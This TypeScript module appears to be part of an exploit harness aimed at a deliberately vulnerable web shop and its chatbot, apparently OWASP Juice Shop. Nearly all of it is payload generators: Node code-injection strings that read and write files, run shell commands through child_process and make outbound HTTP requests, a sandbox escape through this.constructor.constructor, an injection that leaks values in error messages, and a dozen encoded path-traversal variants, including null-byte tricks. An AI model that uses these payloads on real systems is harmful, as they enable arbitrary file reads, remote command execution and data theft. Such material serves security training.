/** Climbs out of any folder. */
export const up = '../'.repeat(12);

/** Code for interpreters that run it as Node's own. It uses only single quotes, unless another kind is asked for. */
export const inNode = {
  read: (path: string, quote = "'") =>
    `require(${quote}fs${quote}).readFileSync(${quote}${path}${quote}, ${quote}utf8${quote})`,
  write: (path: string) => `require('fs').writeFileSync('${path}', 'x')`,
  shell: (command: string) =>
    `global.process.mainModule.require('child_process').execSync('${command}', { encoding: 'utf8' })`,
  get: (url: string) => `require('http').get('${url}')`,
} as const;

/** The way out of a sandbox that has one object of its host. */
const escaped = `this.constructor.constructor('return process')().mainModule.require`;

/** Code for the chatbot's runtime. */
export const inSandbox = {
  read: (path: string) => `${escaped}('fs').readFileSync('${path}', 'utf8')`,
  write: (path: string) => `${escaped}('fs').writeFileSync('${path}', 'x')`,
  shell: (command: string) => `${escaped}('child_process').execSync('${command}', { encoding: 'utf8' })`,
  get: (url: string) => `${escaped}('http').get('${url}')`,
  /** A query after which every response is the bot's complaint about an error that holds the value. */
  answerWith: (code: string) =>
    `" + (globalThis.won = ${code}, process = () => { throw new Error(globalThis.won) }) + "`,
} as const;

const encoded = (text: string) => text.replaceAll('.', '%2e').replaceAll('/', '%2f');

/** Paths of the shop that climb to a file. */
export const servedPaths: readonly (readonly [title: string, pathTo: (file: string) => string])[] = [
  ['`/ftp/../..`, as it is', (file) => `/ftp/${up}${file.slice(1)}`],
  ['`/ftp/..%2f..`', (file) => `/ftp/${up.replaceAll('/', '%2f')}${file.slice(1).replaceAll('/', '%2f')}`],
  ['`/ftp/%2e%2e%2f`', (file) => `/ftp/${encoded(up + file.slice(1))}`],
  [
    '`/ftp/..%252f..%2500.md`',
    (file) => `/ftp/${up.replaceAll('/', '%252f')}${file.slice(1).replaceAll('/', '%252f')}%2500.md`,
  ],
  ['`/ftp/..%5c..`', (file) => `/ftp/${up.replaceAll('/', '%5c')}${file.slice(1).replaceAll('/', '%5c')}`],
  [
    '`/ftp/quarantine/..%2f`',
    (file) => `/ftp/quarantine/${up.replaceAll('/', '%2f')}${file.slice(1).replaceAll('/', '%2f')}`,
  ],
  [
    '`/encryptionkeys/..%2f`',
    (file) => `/encryptionkeys/${up.replaceAll('/', '%2f')}${file.slice(1).replaceAll('/', '%2f')}`,
  ],
  [
    '`/support/logs/..%2f`',
    (file) => `/support/logs/${up.replaceAll('/', '%2f')}${file.slice(1).replaceAll('/', '%2f')}`,
  ],
  ['`/.well-known/../`', (file) => `/.well-known/${up}${file.slice(1)}`],
  ['`/assets/public/images/uploads/..%2f`', (file) => `/assets/public/images/uploads/${encoded(up + file.slice(1))}`],
  ['`/assets/i18n/../`', (file) => `/assets/i18n/${up}${file.slice(1)}`],
  ['`/decoy/..%2f`', (file) => `/decoy/${up.replaceAll('/', '%2f')}${file.slice(1).replaceAll('/', '%2f')}`],
  ['`/..//..`, from the root', (file) => `/${up.replaceAll('/', '//')}${file.slice(1)}`],
];
